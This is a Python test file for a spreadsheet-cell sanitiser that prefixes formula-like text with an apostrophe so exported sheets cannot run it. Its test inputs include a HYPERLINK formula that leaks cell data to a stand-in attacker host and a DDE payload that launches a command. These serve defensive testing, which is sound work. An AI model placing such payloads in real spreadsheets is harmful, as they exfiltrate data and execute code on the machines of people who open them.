"""The one rule for every cell the site writes: text a spreadsheet would run is neutralised,
numbers stay numbers."""

from __future__ import annotations

import pytest

from hromada.lib.cells import restore_text, safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
     "\t=1", "\r=1"],
)  # fmt: skip
def test_text_that_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-12.5, -3, 0, 7.25, "-12.5", "-1,5", "+4", "-1e3", "Решетилівська", ""]
)
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert safe_row(["=1+1", -5.0, None, "ok"]) == ["'=1+1", -5.0, None, "ok"]


def test_text_read_back_loses_only_the_added_apostrophe() -> None:
    assert restore_text(str(safe_cell("=HYPERLINK(1)"))) == "=HYPERLINK(1)"
    assert restore_text("'quoted'") == "'quoted'"
